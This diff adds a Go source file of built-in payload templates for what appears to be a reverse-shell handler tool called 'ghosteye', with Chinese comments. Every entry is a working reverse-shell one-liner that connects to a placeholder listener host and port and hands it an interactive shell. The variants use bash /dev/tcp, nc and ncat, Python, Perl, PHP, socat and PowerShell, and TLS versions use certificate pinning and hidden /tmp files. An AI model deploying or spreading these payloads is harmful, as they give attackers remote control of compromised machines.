@@ -0,0 +1,153 @@
+package payloads
+
+import "ghosteye/models"
+
+// Builtin 内置命令模板，启动时写入数据库
+var Builtin = []models.PayloadTemplate{
+	// TCP
+	{
+		Name:        "bash",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `bash -c 'bash -i >& /dev/tcp/{{LHOST}}/{{LPORT}} 0>&1'`,
+		Description: "bash /dev/tcp",
+	},
+	{
+		Name:        "bash-196",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `bash -c '0<&196;exec 196<>/dev/tcp/{{LHOST}}/{{LPORT}};sh <&196 >&196 2>&196'`,
+		Description: "bash /dev/tcp，使用独立文件描述符",
+	},
+	{
+		Name:        "sh-mkfifo",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `rm -f /tmp/.ge;mkfifo /tmp/.ge;cat /tmp/.ge|/bin/sh -i 2>&1|nc {{LHOST}} {{LPORT}} >/tmp/.ge;rm -f /tmp/.ge`,
+		Description: "sh + 不支持-e的nc",
+	},
+	{
+		Name:        "nc",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `nc {{LHOST}} {{LPORT}} -e /bin/sh`,
+		Description: "支持-e的nc",
+	},
+	{
+		Name:        "busybox-nc",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `busybox nc {{LHOST}} {{LPORT}} -e /bin/sh`,
+		Description: "busybox nc",
+	},
+	{
+		Name:        "ncat",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `ncat {{LHOST}} {{LPORT}} -e /bin/sh`,
+		Description: "nmap ncat",
+	},
+	{
+		Name:        "python3",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("{{LHOST}}",{{LPORT}}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
+		Description: "python3 socket",
+	},
+	{
+		Name:        "python3-pty",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("{{LHOST}}",{{LPORT}}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
+		Description: "python3 socket + pty，连接后即可升级为完整终端",
+	},
+	{
+		Name:        "python2",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `python -c 'import socket,subprocess,os;s=socket.socket();s.connect(("{{LHOST}}",{{LPORT}}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`,
+		Description: "python2 socket",
+	},
+	{
+		Name:        "perl",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `perl -e 'use Socket;$i="{{LHOST}}";$p={{LPORT}};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
+		Description: "perl Socket",
+	},
+	{
+		Name:        "php",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `php -r '$s=fsockopen("{{LHOST}}",{{LPORT}});$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);'`,
+		Description: "php fsockopen + proc_open",
+	},
+	{
+		Name:        "socat",
+		Platform:    "linux",
+		Protocol:    ProtocolTCP,
+		Template:    `socat TCP:{{LHOST}}:{{LPORT}} EXEC:'/bin/sh -li',pty,stderr,setsid,sigint,sane`,
+		Description: "socat，自带PTY",
+	},
+	{
+		Name:        "powershell",
+		Platform:    "windows",
+		Protocol:    ProtocolTCP,
+		Template:    `powershell -nop -c "$c=New-Object Net.Sockets.TCPClient('{{LHOST}}',{{LPORT}});$s=$c.GetStream();$b=New-Object byte[] 65535;$w=New-Object IO.StreamWriter($s);$w.AutoFlush=$true;$w.Write('PS '+(pwd).Path+'> ');while(($i=$s.Read($b,0,$b.Length)) -gt 0){$d=(New-Object Text.UTF8Encoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$w.Write($o+'PS '+(pwd).Path+'> ')};$c.Close()"`,
+		Description: "PowerShell TCPClient",
+	},
+
+	// TLS
+	{
+		// -partial_chain允许直接信任叶子证书，相当于固定该证书
+		Name:        "openssl-tls",
+		Platform:    "linux",
+		Protocol:    ProtocolTLS,
+		Pin:         PinCertificate,
+		Template:    `echo {{CERT_B64}}|base64 -d>/tmp/.ge.pem;mkfifo /tmp/.ge;/bin/sh -i</tmp/.ge 2>&1|openssl s_client -quiet -partial_chain -CAfile /tmp/.ge.pem -verify_return_error -connect {{LHOST}}:{{LPORT}}>/tmp/.ge;rm -f /tmp/.ge /tmp/.ge.pem`,
+		Description: "openssl s_client，固定监听器证书",
+	},
+	{
+		Name:        "socat-tls",
+		Platform:    "linux",
+		Protocol:    ProtocolTLS,
+		Pin:         PinCA,
+		Template:    `echo {{CA_B64}}|base64 -d>/tmp/.ge.ca;socat OPENSSL:{{LHOST}}:{{LPORT}},cafile=/tmp/.ge.ca,verify=1,commonname={{CN}} EXEC:'/bin/sh -li',pty,stderr,setsid,sigint,sane;rm -f /tmp/.ge.ca`,
+		Description: "socat OPENSSL，信任本地CA",
+	},
+	{
+		// ncat会校验主机名，只有证书包含LHOST时才能开启校验
+		Name:        "ncat-tls",
+		Platform:    "linux",
+		Protocol:    ProtocolTLS,
+		Pin:         PinCA,
+		Requires:    RequireCertHost,
+		Template:    `echo {{CA_B64}}|base64 -d>/tmp/.ge.ca;ncat --ssl --ssl-verify --ssl-trustfile /tmp/.ge.ca {{LHOST}} {{LPORT}} -e /bin/sh;rm -f /tmp/.ge.ca`,
+		Description: "ncat --ssl，信任本地CA",
+	},
+	{
+		Name:        "ncat-tls-noverify",
+		Platform:    "linux",
+		Protocol:    ProtocolTLS,
+		Pin:         PinNone,
+		Requires:    RequireNoCertHost,
+		Template:    `ncat --ssl {{LHOST}} {{LPORT}} -e /bin/sh`,
+		Description: "ncat --ssl，证书不包含LHOST时无法校验",
+	},
+	{
+		Name:        "python3-tls",
+		Platform:    "linux",
+		Protocol:    ProtocolTLS,
+		Pin:         PinFingerprint,
+		Template:    `python3 -c 'import socket,ssl,subprocess,hashlib,threading;s=ssl._create_unverified_context().wrap_socket(socket.create_connection(("{{LHOST}}",{{LPORT}})));assert hashlib.sha256(s.getpeercert(True)).hexdigest()=="{{FINGERPRINT}}";p=subprocess.Popen(["/bin/sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT);threading.Thread(target=lambda:[(p.stdin.write(d),p.stdin.flush()) for d in iter(lambda:s.recv(4096),b"")],daemon=True).start();[s.sendall(d) for d in iter(lambda:p.stdout.read1(4096),b"")]'`,
+		Description: "python3 ssl，校验证书指纹",
+	},
+	{
+		Name:        "powershell-tls",
+		Platform:    "windows",
+		Protocol:    ProtocolTLS,
+		Pin:         PinFingerprint,
+		Template:    `$c=New-Object Net.Sockets.TcpClient('{{LHOST}}',{{LPORT}});$s=New-Object Net.Security.SslStream($c.GetStream(),$false,({param($a,$cert)[BitConverter]::ToString([Security.Cryptography.SHA256]::Create().ComputeHash($cert.GetRawCertData())).Replace('-','') -eq '{{FINGERPRINT_UPPER}}'}));$s.AuthenticateAsClient('{{CN}}');$w=New-Object IO.StreamWriter($s);$w.AutoFlush=$true;$b=New-Object byte[] 65535;$w.Write('PS '+(pwd).Path+'> ');while(($i=$s.Read($b,0,$b.Length)) -gt 0){$d=(New-Object Text.UTF8Encoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$w.Write($o+'PS '+(pwd).Path+'> ')}`,
+		Description: "PowerShell SslStream，校验证书指纹",
+	},
+}